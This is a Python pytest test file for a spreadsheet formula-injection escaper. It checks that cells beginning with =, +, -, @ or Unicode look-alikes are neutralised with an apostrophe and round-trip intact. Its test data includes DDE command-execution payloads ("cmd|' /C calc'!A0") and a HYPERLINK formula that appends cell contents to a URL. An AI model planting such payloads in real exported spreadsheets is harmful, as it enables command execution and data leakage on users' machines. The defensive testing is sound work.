"""Formulas in cells, escaped for files that people open."""

import unicodedata
from datetime import date, datetime
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lead_warehouse.spreadsheet import escape_cell, unescape_cell

SIGNS = "=+-@"


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.org/?"&A1)',
        "+33 1 23 45 67 89",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\tplain after a tab",
        "\rplain after a return",
        "\n=1",
        "  =1+1",
        "\u00a0=1+1",
        "\ufeff=1+1",
        "\u200b=1+1",
        "\x00=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "−1",
        "-",
    ],
)
def test_fault_54_a_formula_is_text_behind_an_apostrophe(text: str) -> None:
    assert escape_cell(text).startswith("'")
    assert unescape_cell(escape_cell(text)) == text


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("erp;=1+1", "erp;'=1+1"),
        ("erp; =1+1", "erp;' =1+1"),
        ("first\n=1+1", "first\n'=1+1"),
        ("first\r\n@SUM(1)", "first\r\n'@SUM(1)"),
        ("a\t=1", "a\t'=1"),
        ("a; \n=1", "a; \n'=1"),
    ],
)
def test_fault_54_a_formula_in_the_midst_where_another_cell_may_begin(
    text: str, escaped: str
) -> None:
    assert escape_cell(text) == escaped


@pytest.mark.parametrize(
    "value",
    [
        "a=b",
        "",
        "O'Neil",
        "'quoted'",
        "a - b; c",
        "x@example.org",
        "1-2",
        -12.5,
        -3,
        Decimal("-1.50"),
        None,
        True,
        date(2026, 1, 2),
        datetime(2026, 1, 2, 3),
    ],
)
def test_what_is_no_formula_stays_as_it_is(value: Any) -> None:
    assert escape_cell(value) is value or escape_cell(value) == value
    assert type(escape_cell(value)) is type(value)


@given(
    st.text(st.sampled_from("=+-@'; \t\r\n\u200b＝ax") | st.characters(exclude_categories=["Cs"]))
)
def test_fault_54_no_text_begins_a_formula_and_none_is_lost(text: str) -> None:
    escaped = escape_cell(text)
    assert unescape_cell(escaped) == text
    for cell in escaped.replace("\t", ";").replace("\r", ";").replace("\n", ";").split(";"):
        shown = "".join(c for c in cell if unicodedata.category(c) not in ("Cc", "Cf")).strip()
        first = unicodedata.normalize("NFKC", shown[:1])
        assert first not in (*SIGNS, "−"), (text, escaped)
